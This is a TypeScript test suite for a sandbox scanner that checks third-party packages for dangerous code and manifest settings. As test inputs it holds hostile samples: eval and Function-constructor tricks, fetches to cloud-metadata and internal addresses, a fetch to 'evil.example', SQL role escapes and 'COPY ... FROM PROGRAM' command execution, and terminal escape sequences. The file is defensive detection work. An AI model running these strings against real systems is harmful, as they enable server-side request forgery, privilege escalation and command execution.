import assert from 'node:assert/strict';
import type { Finding } from '../../../sandbox/package/scan/finding.ts';
import { scanPackage } from '../../../sandbox/package/scan-package.ts';
import { plainManifest } from './package-of.ts';

const findings = (
  code: string,
  manifest: object = plainManifest,
  files: Record<string, string | Buffer> = {},
): readonly Finding[] =>
  scanPackage({
    code,
    manifest: manifest as never,
    files: new Map(Object.entries(files).map(([path, content]) => [path, Buffer.from(content as string)])),
  });
const briefly = (list: readonly Finding[]): readonly string[] =>
  list.map(({ severity, rule, line }) => `${severity} ${rule}${line === null ? '' : ` ${line}`}`);
const asking = (capability: string, ...scope: string[]): object => ({
  ...plainManifest,
  permissions: [{ capability, scope, reason: 'x' }],
});

const codes: readonly (readonly [code: string, expected: readonly string[], manifest?: object])[] = [
  ['// eval("x")\nconst text = "eval(x); process.exit()";\n/* import("x") */', []],
  ['\neval("x")', ['danger code-from-text 2']],
  ['(0, eval)("x")', ['danger code-from-text 1']],
  ['globalThis["eval"]("x")', ['danger code-from-text 1']],
  ['new Function("return 1")()', ['danger code-from-text 1']],
  ['[].constructor.constructor("return process")()', ['danger code-from-text 1']],
  ['setTimeout("x()", 1)', ['danger code-from-text 1']],
  ['setTimeout(() => 1, 1)', []],
  ['await import("data:text/javascript,1")', ['danger dynamic-import 1']],
  ['import x from "node:fs"', ['danger import 1']],
  ['new WebAssembly.Module(x)', ['warning webassembly 1']],
  ['const w = [0, 97, 115, 109, 1]', ['warning webassembly 1']],
  ['const w = "AGFzbQEAAAA"', ['warning webassembly 1']],
  ['new SharedArrayBuffer(8); Atomics.wait(a)', ['warning shared-memory 1', 'warning shared-memory 1']],
  ['process.exit(); const a = { process: 1 }; a.process', ['info host-object 1']],
  [`const x = "${'QUJD'.repeat(300)}"`, ['warning encoded-text 1']],
  ['const x = "user\u202etxt"', ['danger hidden-text 1']],
  ['Array.prototype.map = 1', ['warning prototype-tampering 1']],
  ['Object.defineProperty(Object.prototype, "x", {})', ['warning prototype-tampering 1']],
  ['a.__proto__.x = 1', ['warning prototype-tampering 1']],
  ['const a = { prototype: 1 }; a.prototype = 2; class B {} B.prototype.c = 3', []],
  ['fetch("http://169.254.169.254/latest")', ['danger local-address 1']],
  ['fetch("http://2130706433/")', ['danger local-address 1']],
  ['fetch("http://user@127.0.0.1/")', ['danger local-address 1']],
  ['fetch("http://[::ffff:10.0.0.1]/")', ['danger local-address 1']],
  ['fetch("http://db.internal/")', ['danger local-address 1']],
  ['const h = "192.168.1.1"', ['danger local-address 1']],
  ['fetch("https://8.8.8.8/")', ['warning ip-address 1']],
  [
    'fetch(`https://evil.example/$'.concat('{x}`)'),
    ['info unlisted-host 1', 'info unused-capability'],
    asking('net.fetch', 'api.example.com'),
  ],
  ['c.net.fetch("https://a.example.com/")', [], asking('net.fetch', '*.example.com')],
  ['c.net.fetch(x)', ['danger undeclared-capability 1']],
  ['c.db?.["write"].query("select 1")', ['danger undeclared-capability 1']],
  ['export default {}', ['info unused-capability'], asking('cache', '*')],
  ['const { cache } = c; cache.get(k)', [], asking('cache', '*')],
  ['x.query("DROP TABLE orders")', ['warning sql-ddl 1']],
  ['x.query("SET LOCAL ROLE postgres")', ['danger sql-escape 1']],
  ["x.query(\"select set_config('role', 'none', true)\")", ['danger sql-escape 1']],
  ['x.query("COPY a FROM PROGRAM \'id\'")', ['danger sql-escape 1']],
  [
    'c.db.read.query(`select * from orders where id = $'.concat('{id}`)'),
    ['warning sql-built 1'],
    asking('db.read', 'orders'),
  ],
  ['c.db.read.query(`select 1`)', [], asking('db.read', 'orders')],
  [`${Array.from({ length: 6 }, (_, at) => `var _0x12ab${at} = 1;`).join('\n')}`, ['danger obfuscated']],
  [`const x = [${'1,'.repeat(4000)}]`, ['info minified']],
  ['export default {', ['danger unreadable 1']],
  ['['.repeat(100_000), ['danger unreadable 1']],
  ['x', ['danger broad-scope', 'info unused-capability'], asking('db.write', '*')],
  [
    'x',
    ['warning public-route'],
    { ...plainManifest, routes: [{ method: 'POST', path: '/in', public: true }] },
  ],
  ['x', ['warning unknown-event'], { ...plainManifest, events: ['extension.message', 'note.made'] }],
  [
    'x',
    ['warning broad-hook'],
    { ...plainManifest, hooks: [{ when: 'before', tables: ['*'], operations: ['list'] }] },
  ],
];

describe('sandbox: scan of a package', () => {
  for (const [code, expected, manifest] of codes) {
    it(`finds ${expected.join(', ') || 'nothing'} in ${JSON.stringify(code.slice(0, 60))}`, () =>
      assert.deepEqual(briefly(findings(code, manifest)), expected));
  }

  it('looks into migrations and assets', () => {
    const list = findings('x', plainManifest, {
      'migrations/1.sql':
        '-- UP\ncreate table a (b int);\ncreate function f() returns int security definer as $$ $$;\n-- DOWN\n',
      'assets/run': Buffer.from('7f454c460201', 'hex'),
      'assets/a.txt': 'harmless',
    });
    assert.deepEqual(
      list.map(({ rule, file, line }) => [rule, file, line]),
      [
        ['sql-escape', 'migrations/1.sql', 3],
        ['program-in-assets', 'assets/run', null],
      ],
    );
  });

  it('is not drowned by a thousand of one kind', () => {
    const list = findings(Array.from({ length: 1000 }, () => 'eval("x")').join('\n'));
    assert.equal(list.length, 10);
    assert.match(list.at(-1)!.message, /and 990 more like it/);
  });

  const made: readonly (readonly [what: string, code: string])[] = [
    ['names', Array.from({ length: 60_000 }, (_, at) => `var v${at}`).join(';')],
    ['exports', `${Array.from({ length: 50_000 }, (_, at) => `export let v${at}`).join(';')}`],
    ['properties', `({${Array.from({ length: 30_000 }, (_, at) => `p${at}:1`).join(',')}})`],
    ['private names', `class A{${Array.from({ length: 50_000 }, (_, at) => `#p${at}`).join(';')}}`],
    ['parameters', `(${Array.from({ length: 50_000 }, (_, at) => `p${at}`).join(',')})=>1`],
    [
      'labels',
      Array.from({ length: 2000 }, (_, at) => `l${at}:`)
        .join('')
        .concat(';'),
    ],
    ['texts', Array.from({ length: 50_000 }, (_, at) => `"http://a${at}.b/"`).join(';')],
    [
      'spaces in SQL',
      `"${'set '.repeat(100_000)}";"copy ${' '.repeat(100_000)}x";"${'copy '.repeat(20_000)}"`,
    ],
    ['a long chain', `a${'.b'.repeat(200_000)}`],
    ['copies', `"${'copy '.repeat(200_000)}"`],
    ['slashes', `"${'http://'.repeat(50_000)}"`],
    ['capability calls', Array.from({ length: 50_000 }, (_, at) => `c.x${at}.y()`).join(';')],
  ];
  for (const [what, code] of made) {
    it(`is not held up by ${what} made for it`, function () {
      // Minutes when a step looks at everything for everything; well below a second else.
      this.timeout(20_000);
      assert.ok(Array.isArray(findings(code)));
    });
  }

  it('says nothing that a terminal would act upon', () => {
    const list = findings('fetch("http://127.0.0.1\u001b[2J/"); x.query("SET ROLE \u001b[31m"); \u001b');
    for (const { message } of list) assert.match(message, /^[\x20-\x7e]*$/);
    assert.ok(list.length > 0);
  });
});
